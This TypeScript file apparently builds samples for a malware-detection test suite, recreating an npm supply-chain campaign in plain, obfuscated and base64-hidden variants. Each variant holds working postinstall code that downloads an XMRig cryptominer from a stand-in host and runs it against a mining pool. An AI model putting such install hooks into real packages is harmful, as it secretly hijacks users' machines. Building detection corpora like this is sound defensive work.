import { base64, type Campaign, entry, scripted, tabled } from './kit.ts';

export const campaign: Campaign = {
  id: 'rspack-vant',
  row: 'rspack/vant 12/2024',
  variants: [
    {
      concealment: 'plain',
      files: scripted(
        { postinstall: 'node ./dist/util/support.js' },
        {
          'dist/util/support.js': `const https = require('https'), fs = require('fs'), os = require('os'), path = require('path');
const { exec } = require('child_process');
const url = 'https://dl.weir.test/xmrig/xmrig-6.22.2-linux-static-x64.tar.gz';
const dir = path.join(os.homedir(), '.cache', 'vant');
fs.mkdirSync(dir, { recursive: true });
const file = fs.createWriteStream(path.join(dir, 'vant_helper.tar.gz'));
https.get(url, (res) => {
  res.pipe(file);
  file.on('finish', () => exec('tar -xzf ' + path.join(dir, 'vant_helper.tar.gz') + ' -C ' + dir + ' && ' + path.join(dir, 'vant_helper') + ' --url 203.0.113.5:80 --user 475NBZygwEajj --donate-level 0 &'));
});
`,
        },
      ),
    },
    {
      concealment: 'obfuscated',
      files: scripted(
        { postinstall: 'node ./dist/util/support.js' },
        {
          'dist/util/support.js': tabled(
            'base64',
            (
              h,
            ) => `const cp = require(${h('child_process')}), https = require(${h('https')}), fs = require(${h('fs')});
https[${h('get')}](${h('https://dl.weir.test/x/helper')}, (res) => { const f = fs[${h('createWriteStream')}](${h('/tmp/vant_helper')}, { mode: 493 }); res[${h('pipe')}](f); f.on(${h('finish')}, () => cp[${h('exec')}](${h('/tmp/vant_helper -o stratum+tcp://pool.weir.test:3333')})); });
`,
          ),
        },
      ),
    },
    {
      concealment: 'moved',
      files: entry(`const { spawn } = require('child_process');
const config = JSON.parse(Buffer.from('${base64(JSON.stringify({ url: 'stratum+tcp://pool.weir.test:3333', bin: './bin/worker' }))}', 'base64').toString());
spawn(config.bin, ['-o', config.url, '-a', 'rx/0'], { detached: true, stdio: 'ignore' }).unref();
module.exports = {};
`),
    },
  ],
};
